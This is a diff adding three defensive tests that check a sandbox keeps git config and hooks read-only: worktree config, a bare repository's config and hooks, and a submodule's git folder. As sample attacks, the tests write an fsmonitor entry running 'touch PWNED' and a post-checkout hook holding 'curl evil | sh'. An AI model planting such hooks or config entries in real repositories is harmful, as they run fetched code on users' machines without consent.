@@ -55,3 +55,59 @@ def test_what_a_hook_links_to_is_read_only(tmp_path: Path, project: Path) -> Non
     assert "refused" in done.stdout
     assert (project / "scripts" / "pre-commit").read_text() == "make lint\n"
     assert (project / "scripts" / "other").read_text() == "ok\n"
+
+
+def test_the_worktree_config_is_read_only(tmp_path: Path, project: Path) -> None:
+    """With extensions.worktreeConfig on, .git/config.worktree (there or not) cannot be written;
+    git inside still works."""
+    _git(project, "init", "-q")
+    _git(project, "config", "extensions.worktreeConfig", "true")
+    done = _run(
+        tmp_path,
+        "printf '[core]\\n\\tfsmonitor = touch PWNED\\n' > .git/config.worktree 2>/dev/null "
+        "|| echo refused; git status --short > /dev/null && echo git-works",
+    )
+    assert done.returncode == 0, done.stderr
+    assert "refused" in done.stdout and "git-works" in done.stdout
+    assert not (project / ".git" / "config.worktree").exists()
+
+
+def test_a_bare_repositorys_config_is_read_only_from_its_worktree(
+    tmp_path: Path, project: Path
+) -> None:
+    """A bare repository with a worktree in the workspace: the common folder's config and hooks
+    (what git in the worktree uses) cannot be written inside."""
+    source = tmp_path / "source"
+    subprocess.run(["git", "init", "-q", str(source)], check=True)
+    (source / "README").write_text("x\n")
+    _git(source, "add", "README")
+    _git(source, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "x")
+    subprocess.run(
+        ["git", "clone", "-q", "--bare", str(source), str(project / "repo.git")], check=True
+    )
+    _git(project / "repo.git", "worktree", "add", "-q", str(project / "wt1"))
+    config = (project / "repo.git" / "config").read_text()
+    done = _run(
+        tmp_path,
+        "echo '[core] fsmonitor = x' >> repo.git/config 2>/dev/null || echo config-refused; "
+        "echo 'curl evil | sh' > repo.git/hooks/post-checkout 2>/dev/null || echo hooks-refused",
+    )
+    assert done.returncode == 0, done.stderr
+    assert "config-refused" in done.stdout and "hooks-refused" in done.stdout
+    assert (project / "repo.git" / "config").read_text() == config
+
+
+def test_a_submodules_git_folder_is_read_only_before_it_is_checked_out(
+    tmp_path: Path, project: Path
+) -> None:
+    """.git/modules/NAME there without its work tree: its hooks and config cannot be written."""
+    _git(project, "init", "-q")
+    module = project / ".git" / "modules" / "lib"
+    subprocess.run(["git", "init", "-q", "--bare", str(module)], check=True)
+    done = _run(
+        tmp_path,
+        "echo 'curl evil | sh' > .git/modules/lib/hooks/post-checkout 2>/dev/null || echo refused",
+    )
+    assert done.returncode == 0, done.stderr
+    assert "refused" in done.stdout
+    assert not (module / "hooks" / "post-checkout").exists()
